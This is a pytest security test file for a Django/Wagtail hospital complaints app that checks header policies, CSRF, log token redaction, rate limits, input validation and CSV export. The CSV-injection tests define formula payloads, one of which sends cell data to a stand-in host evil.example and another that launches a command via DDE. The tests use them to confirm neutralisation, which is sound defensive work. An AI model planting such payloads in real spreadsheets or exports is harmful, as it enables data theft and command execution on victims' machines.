"""The audit's findings (issue 9), each through the public surface: what must not leak, be
replayed, be injected, be changed by a GET, or be stored."""

import csv
import datetime
import io
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.contrib.messages import get_messages
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client, RequestFactory, override_settings
from django.urls import reverse
from django.utils import timezone

from wagtail_complaints import actions, workflow
from wagtail_complaints.log_redaction import RedactPrivateLinks
from wagtail_complaints.models import Attachment, Category, Complaint, ComplaintLogEntry
from wagtail_complaints.workflow import Status

from .factories import complaint_form_data as form_data
from .factories import make_complaint

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@pytest.fixture
def client(committing_client):
    return committing_client


def page_url(complaint_or_token):
    token = getattr(complaint_or_token, "access_token", complaint_or_token)
    return reverse("wagtail_complaints_public:follow_up", args=[token])


def act_url(complaint, action):
    return reverse("wagtail_complaints_public:act", args=[complaint.access_token, action])


def inspect_url(complaint):
    return reverse("wagtail_complaints:inspect", args=[complaint.pk])


def transition_url(complaint, name):
    return reverse("wagtail_complaints:transition", args=[complaint.pk, name])


def flashed(response):
    return " ".join(str(message) for message in get_messages(response.wsgi_request))


def with_attachment(complaint):
    attachment = Attachment(complaint=complaint, original_name="referto.pdf", content_type="application/pdf", size=len(PDF))
    attachment.file.save("referto.pdf", SimpleUploadedFile("referto.pdf", PDF), save=True)
    return attachment


# -- the private pages' own forms work in browsers (Origin: null) --------------------------------


def test_private_pages_send_the_referrer_only_to_their_own_site(client, complaint):
    # no-referrer made Chromium post the page's forms with Origin: null, refused by CSRF;
    # same-origin keeps the token from other sites and lets the forms work (tests/test_browser.py).
    response = client.get(page_url(complaint))
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_a_post_from_the_page_itself_passes_the_csrf_origin_check(complaint):
    browser = Client(enforce_csrf_checks=True)
    browser.get(page_url(complaint))
    token = browser.cookies["csrftoken"].value
    data = {"reply-body": "Dalla pagina", "csrfmiddlewaretoken": token}
    assert browser.post(act_url(complaint, "reply"), data, HTTP_ORIGIN="http://testserver").status_code == 302
    # What no-referrer made Chromium send: refused, which is why the policy changed.
    assert browser.post(act_url(complaint, "reply"), data, HTTP_ORIGIN="null").status_code == 403


# -- a replayed submission key reveals nothing new -----------------------------------------------


def test_a_replayed_form_shows_neither_the_link_nor_the_address(client, form_page, handler):
    data = form_data(client, form_page)
    first = client.post(form_page.url, data)
    complaint = Complaint.objects.get()
    first_token = complaint.access_token
    assert first_token in first.content.decode()
    complaint = actions.reissue_link(complaint, handler)

    replay = client.post(form_page.url, data)
    content = replay.content.decode()
    assert Complaint.objects.count() == 1
    assert complaint.reference in content
    assert "already reached us" in content
    assert "by e-mail" in content
    assert complaint.access_token not in content
    assert first_token not in content
    assert "maria@example.com" not in content


def test_the_confirmation_page_is_not_stored_indexed_or_referred(client, form_page):
    response = client.post(form_page.url, form_data(client, form_page))
    assert "no-store" in response["Cache-Control"]
    assert response["X-Robots-Tag"] == "noindex, nofollow"
    assert response["Referrer-Policy"] == "same-origin"


# -- CSV formula injection -----------------------------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_COMMAND = "=cmd|' /C calc'!A0"


def read_csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_spreadsheet_cell_rule(start):
    from wagtail_complaints.spreadsheets import neutralise

    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Maria") == "Maria"
    assert neutralise(-3) == -3


def test_inbox_csv_neutralises_formulas(client, handler, category):
    make_complaint(category=category, first_name=EVIL_NAME, last_name=EVIL_COMMAND)
    client.force_login(handler)
    rows = read_csv(client.get(reverse("wagtail_complaints:index"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL_NAME in cells
    assert "'" + EVIL_COMMAND in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_statistics_csv_and_report_neutralise_labels(client, viewer, tmp_path):
    evil = Category.objects.create(name=EVIL_COMMAND)
    make_complaint(category=evil)
    client.force_login(viewer)
    rows = read_csv(client.get(reverse("wagtail_complaints_stats:table", args=["categories"]), {"export": "csv"}))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL_COMMAND in cells
    assert EVIL_COMMAND not in cells

    year = timezone.localdate().year
    call_command("complaint_report", "--start", f"{year}-01-01", "--end", f"{year}-12-31", "--format", "csv", "--output-dir", str(tmp_path))
    written = "".join(path.read_text(encoding="utf-8-sig") for path in tmp_path.glob("*.csv"))
    assert "'" + EVIL_COMMAND in written
    assert "," + EVIL_COMMAND not in written and "\n" + EVIL_COMMAND not in written


# -- tokens never reach the logs -----------------------------------------------------------------


@pytest.fixture
def request_log():
    """What Django's request logger writes through a handler with the filter turned on."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(RedactPrivateLinks())
    logger = logging.getLogger("django.request")
    logger.addHandler(handler)
    yield stream
    logger.removeHandler(handler)


@override_settings(WAGTAIL_COMPLAINTS_FOLLOW_UP_RATE="1/m")
def test_request_logs_carry_no_private_link(client, complaint, request_log):
    client.get(page_url(complaint))
    assert client.get(page_url(complaint)).status_code == 429  # "Too Many Requests: /complaints/<token>/"
    assert client.post(act_url(complaint, "reply"), {}).status_code == 429
    written = request_log.getvalue()
    assert "Too Many Requests" in written
    assert "[private-link]" in written
    assert complaint.access_token not in written


def test_the_filter_redacts_messages_args_and_the_request():
    token = "a1" * 32
    record = logging.LogRecord("django.request", logging.WARNING, __file__, 1, "Bad Request: %s", (f"/complaints/{token}/reply/",), None)
    record.request = RequestFactory().get(f"/complaints/{token}/")
    assert RedactPrivateLinks().filter(record)
    assert token not in record.getMessage()
    assert token not in repr(record.request) and token not in record.request.get_full_path()
    assert record.request.method == "GET"


def test_the_example_site_filters_every_log_handler():
    from example_site import settings as example

    handlers = example.LOGGING["handlers"]
    assert handlers
    assert all("redact_private_links" in handler.get("filters", []) for handler in handlers.values())


# -- opening a complaint from another site changes nothing ---------------------------------------


@pytest.mark.parametrize("fetch_site", ["cross-site", None])
def test_a_link_from_another_site_does_not_take_in_charge(client, handler, complaint, fetch_site):
    client.force_login(handler)
    headers = {"HTTP_SEC_FETCH_SITE": fetch_site} if fetch_site else {}
    response = client.get(inspect_url(complaint), **headers)
    assert response.status_code == 200
    assert Complaint.objects.get(pk=complaint.pk).status == Status.PENDING
    assert mail.outbox == []
    # The handler takes it in charge with the button instead (a POST).
    assert 'action="' + transition_url(complaint, "take_in_charge") in response.content.decode()
    response = client.post(transition_url(complaint, "take_in_charge"), {"take_in_charge-expected_status": "pending"})
    assert response.status_code == 302
    assert Complaint.objects.get(pk=complaint.pk).status == Status.TAKEN_IN_CHARGE


@pytest.mark.parametrize("fetch_site", ["same-origin", "same-site", "none"])
def test_the_operators_own_navigation_takes_in_charge(client, handler, complaint, fetch_site):
    client.force_login(handler)
    client.get(inspect_url(complaint), HTTP_SEC_FETCH_SITE=fetch_site)
    assert Complaint.objects.get(pk=complaint.pk).status == Status.TAKEN_IN_CHARGE


def test_take_in_charge_with_a_stale_form_is_refused_not_a_500(client, handler, complaint):
    client.force_login(handler)
    actions.take_in_charge(complaint, handler)
    response = client.post(transition_url(complaint, "take_in_charge"), {"take_in_charge-expected_status": "pending"})
    assert response.status_code == 302
    assert "Someone changed this complaint" in flashed(response)


# -- methods -------------------------------------------------------------------------------------


def test_downloads_and_private_pages_answer_get_and_head_only(complaint, handler):
    attachment = with_attachment(complaint)
    operator = Client()
    operator.force_login(handler)
    admin_file = reverse("wagtail_complaints_followup:attachment", args=[attachment.pk])
    assert operator.post(admin_file).status_code == 405
    assert operator.head(admin_file).status_code == 200

    public_file = reverse("wagtail_complaints_public:attachment", args=[complaint.access_token, attachment.pk])
    patient = Client()
    assert patient.post(public_file).status_code == 405
    assert patient.head(public_file).status_code == 200
    assert patient.head(page_url(complaint)).status_code == 200
    assert patient.post(page_url(complaint)).status_code == 405


# -- what is stored is what a person meant -------------------------------------------------------


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("event_date", (timezone.localdate() + datetime.timedelta(days=2)).isoformat(), "in the future"),
        ("event_date", "1899-12-31", "too far in the past"),
        ("first_name", "Maria\u202eissoR", "control characters"),
        ("last_name", "Rossi\x07", "control characters"),
        ("phone", "call me after six", "phone number with digits"),
        ("phone", "12", "phone number with digits"),
    ],
)
def test_the_form_refuses_what_no_one_means(client, form_page, field, value, message):
    response = client.post(form_page.url, form_data(client, form_page, **{field: value}))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Complaint.objects.exists()


def test_the_form_keeps_real_names_and_numbers(client, form_page):
    client.post(
        form_page.url,
        form_data(client, form_page, first_name="Zoë-Anne", last_name="D'Alessandro", phone="+39 (06) 1234-5678", contact_preference="phone"),
    )
    complaint = Complaint.objects.get()
    assert (complaint.first_name, complaint.phone) == ("Zoë-Anne", "+39 (06) 1234-5678")


def test_the_back_office_refuses_year_one_and_hidden_characters(client, handler, category):
    client.force_login(handler)
    data = {
        "channel": "letter",
        "received_at": "0001-01-01 12:00",
        "category": category.pk,
        "description": "Lettera",
        "first_name": "Luigi\u200b",
        "last_name": "Verdi",
        "phone": "333 1234567",
        "contact_preference": "phone",
        "language": "it",
    }
    content = client.post(reverse("wagtail_complaints:add"), data).content.decode()
    assert "too far in the past" in content
    assert "control characters" in content
    assert not Complaint.objects.exists()


def test_a_handler_cannot_close_as_withdrawn(client, handler, complaint):
    client.force_login(handler)
    complaint = actions.take_in_charge(complaint, handler)
    response = client.post(
        transition_url(complaint, "close"), {"close-expected_status": Status.TAKEN_IN_CHARGE, "close-outcome": "withdrawn"}
    )
    assert response.status_code == 200
    assert "only the complainant can withdraw" in response.content.decode()
    assert Complaint.objects.get(pk=complaint.pk).status == Status.TAKEN_IN_CHARGE
    with pytest.raises(workflow.TransitionNotAllowed):
        actions.close(complaint, handler, outcome="withdrawn")


# -- rate limits that lock out only who they must ------------------------------------------------


@override_settings(WAGTAIL_COMPLAINTS_SUBMIT_RATE="2/h")
def test_failed_submissions_do_not_count_and_the_wait_is_told(client, form_page):
    for _ in range(4):
        assert client.post(form_page.url, form_data(client, form_page, description="")).status_code == 200
    for _ in range(2):
        client.post(form_page.url, form_data(client, form_page))
    assert Complaint.objects.count() == 2
    response = client.post(form_page.url, form_data(client, form_page))
    assert response.status_code == 429
    content = response.content.decode()
    # The real wait, whatever is left of the hour's window: "1 minute" … "60 minutes", never "a few".
    assert re.search(r"\b\d+ minutes?\b", content) and "a few minutes" not in content
    assert 0 < int(response["Retry-After"]) <= 3600


@override_settings(WAGTAIL_COMPLAINTS_SUBMIT_RATE="2/h")
def test_bot_hits_count_against_the_address(client, form_page):
    for _ in range(2):
        client.post(form_page.url, form_data(client, form_page, website="http://spam.example"))
    assert client.post(form_page.url, form_data(client, form_page)).status_code == 429


@override_settings(WAGTAIL_COMPLAINTS_FOLLOW_UP_RATE="3/m")
def test_the_follow_up_limit_is_per_link_and_address(client, category):
    first, second = make_complaint(category=category), make_complaint(category=category)
    for _ in range(3):
        assert client.get(page_url(first)).status_code == 200
    limited = client.get(page_url(first))
    assert limited.status_code == 429
    assert "in 1 minute" in limited.content.decode()
    # Another patient behind the same hospital Wi-Fi, and the same link from elsewhere, still work.
    assert client.get(page_url(second)).status_code == 200
    assert client.get(page_url(first), REMOTE_ADDR="10.0.0.9").status_code == 200


@override_settings(WAGTAIL_COMPLAINTS_UNKNOWN_LINK_RATE="3/m")
def test_guessing_links_is_limited_per_address(client, complaint):
    for _ in range(3):
        assert client.get(page_url("0" * 64)).status_code == 404
    assert client.get(page_url(complaint)).status_code == 429
    assert client.get(page_url(complaint), REMOTE_ADDR="10.0.0.9").status_code == 200


# -- headers, production settings, error pages ---------------------------------------------------


def test_public_pages_carry_a_strict_content_security_policy(client, form_page, complaint):
    for response in (client.get(form_page.url), client.get(page_url(complaint)), client.get("/no-such-page/")):
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy
        assert "unsafe-inline" not in policy
        assert "frame-ancestors 'none'" in policy
        assert response["X-Frame-Options"] == "DENY"
        assert response["X-Content-Type-Options"] == "nosniff"


def test_downloads_keep_their_own_sandbox_policy(complaint):
    attachment = with_attachment(complaint)
    url = reverse("wagtail_complaints_public:attachment", args=[complaint.access_token, attachment.pk])
    assert Client().get(url)["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_production_settings_refuse_a_missing_secret_key():
    env = {key: value for key, value in os.environ.items() if key != "SECRET_KEY"}
    env["DJANGO_SETTINGS_MODULE"] = "example_site.settings_production"
    result = subprocess.run(
        [sys.executable, "example_site/manage.py", "check"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode != 0
    assert "Set SECRET_KEY" in result.stderr


def test_error_pages_are_in_the_sites_style(client, complaint):
    from django.views import defaults

    not_found = client.get(page_url("0" * 64))
    assert not_found.status_code == 404
    assert "Ospedale San Luca" in not_found.content.decode()
    assert "/static/css/site.css" in not_found.content.decode()

    request = RequestFactory().get("/")
    for view, status in ((defaults.server_error, 500), (defaults.permission_denied, 403)):
        response = view(request, exception=Exception()) if status == 403 else view(request)
        assert response.status_code == status
        content = response.content.decode()
        assert "Ospedale San Luca" in content and "/static/css/site.css" in content
        assert "Traceback" not in content

    refused = Client(enforce_csrf_checks=True).post(act_url(complaint, "reply"), {"reply-body": "x"})
    assert refused.status_code == 403
    assert "Ospedale San Luca" in refused.content.decode()
    assert not ComplaintLogEntry.objects.filter(action="wagtail_complaints.reply").exists()
